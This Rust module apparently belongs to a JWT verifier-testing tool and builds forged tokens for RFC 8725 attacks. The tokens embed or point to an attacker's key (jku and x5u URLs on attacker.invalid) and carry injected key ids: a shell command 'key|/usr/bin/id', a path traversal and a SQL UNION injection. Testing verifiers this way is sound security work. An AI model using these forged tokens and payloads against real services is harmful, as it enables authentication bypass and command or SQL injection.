//! Tokens that contain a key, point to one, or abuse the key id (RFC 8725, sections 2.9 and 3.10).
//!
//! Most have a real signature, made with the attacker's key.

use aws_lc_rs::digest::{SHA1_FOR_LEGACY_USE_ONLY, SHA256, digest};
use aws_lc_rs::hmac::HMAC_SHA256;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::base64url::encode_base64url;
use crate::error::ForgeryError;
use crate::signing_key::{SigningKey, sign_hmac_token};
use crate::token::{ForgedToken, Token, without_member};

pub(crate) fn forge_tokens(
    good: &Token,
    known_key_id: Option<&str>,
    attacker: &SigningKey,
) -> Result<Vec<ForgedToken>, ForgeryError> {
    let mut forged = embedded_keys(good, known_key_id, attacker)?;
    forged.extend(unusual_key_ids(good, known_key_id.unwrap_or_default(), attacker)?);
    forged.extend(injected_key_ids(good));
    forged.extend(critical_parameters(good, attacker)?);
    Ok(forged)
}

/// Returns tokens whose header contains the key that signed them, or points to it.
fn embedded_keys(
    good: &Token,
    known_key_id: Option<&str>,
    attacker: &SigningKey,
) -> Result<Vec<ForgedToken>, ForgeryError> {
    let mut jwk = attacker.jwk();
    if let Some(kid) = known_key_id {
        jwk["kid"] = json!(kid);
    }
    let certificate = attacker.self_signed_certificate()?;
    let thumbprint = |hash| encode_base64url(digest(hash, &certificate));
    let mut forged = Vec::new();
    for (name, value) in [
        ("jwk", jwk),
        ("jku", json!("https://attacker.invalid/jwks.json")),
        ("x5u", json!("https://attacker.invalid/certificate.pem")),
        ("x5c", json!([STANDARD.encode(&certificate)])),
        ("x5t", json!(thumbprint(&SHA1_FOR_LEGACY_USE_ONLY))),
        ("x5t#S256", json!(thumbprint(&SHA256))),
    ] {
        let mut header = without_member(good.header_with(name, value), "kid");
        let token = attacker.sign_token(&header, &good.claims)?;
        forged.push(ForgedToken::new(format!("the attacker's key in {name}, no key id"), token));
        if let Some(kid) = known_key_id {
            header["kid"] = json!(kid);
            let token = attacker.sign_token(&header, &good.claims)?;
            forged.push(ForgedToken::new(format!("the attacker's key in {name}, known key id"), token));
        }
    }
    Ok(forged)
}

fn unusual_key_ids(
    good: &Token,
    known: &str,
    attacker: &SigningKey,
) -> Result<Vec<ForgedToken>, ForgeryError> {
    let mut forged = Vec::new();
    for (name, kid) in [
        ("unknown", json!("restctl-unknown")),
        ("empty", json!("")),
        ("trailing space", json!(format!("{known} "))),
        ("trailing NUL", json!(format!("{known}\0"))),
        ("4,000 characters", json!("k".repeat(4000))),
        ("a URL", json!("https://attacker.invalid/jwks.json")),
        ("a command", json!("key|/usr/bin/id")),
        ("null", Value::Null),
        ("a number", json!(1)),
        ("an array", json!([known])),
        ("an object", json!({"kid": known})),
    ] {
        let token = attacker.sign_token(&good.header_with("kid", kid), &good.claims)?;
        forged.push(ForgedToken::new(format!("key id: {name}"), token));
    }
    Ok(forged)
}

/// A verifier that looks up the key id in a file or a database would find the secret that the attacker chose.
fn injected_key_ids(good: &Token) -> impl Iterator<Item = ForgedToken> {
    let injected = [
        ("path to an empty file", "../../../../../../dev/null", ""),
        ("SQL that returns the secret", "x' UNION SELECT 'secret' -- ", "secret"),
    ];
    injected.into_iter().map(|(name, kid, secret)| {
        let header = json!({"typ": "JWT", "alg": "HS256", "kid": kid});
        let token = sign_hmac_token(HMAC_SHA256, &header, &good.claims, secret.as_bytes());
        ForgedToken::new(format!("key id: {name}"), token)
    })
}

/// RFC 7515, section 4.1.11, and RFC 7797.
fn critical_parameters(good: &Token, attacker: &SigningKey) -> Result<Vec<ForgedToken>, ForgeryError> {
    let mut forged = Vec::new();
    for (name, critical) in
        [("exp", json!(["exp"])), ("unknown", json!(["x-restctl"])), ("empty list", json!([]))]
    {
        let token = good.with_header(&good.header_with("crit", critical));
        forged.push(ForgedToken::new(format!("critical header parameter: {name}"), token));
    }
    let mut unencoded = good.header_with("b64", false);
    forged
        .push(ForgedToken::new("payload declared unencoded", attacker.sign_token(&unencoded, &good.claims)?));
    unencoded["crit"] = json!(["b64"]);
    forged.push(ForgedToken::new("payload declared unencoded, critical", good.with_header(&unencoded)));
    Ok(forged)
}
